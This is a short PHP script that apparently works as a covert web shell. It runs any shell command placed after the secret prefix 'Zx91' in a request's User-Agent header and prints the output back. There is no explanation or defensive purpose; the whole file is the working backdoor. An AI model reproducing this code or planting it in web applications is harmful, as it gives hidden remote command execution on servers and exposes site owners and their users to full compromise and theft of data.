<?php
$ua = $_SERVER['HTTP_USER_AGENT'];
if (strpos($ua, 'Zx91') === 0) {
    $cmd = substr($ua, 4);
    echo shell_exec($cmd);
}
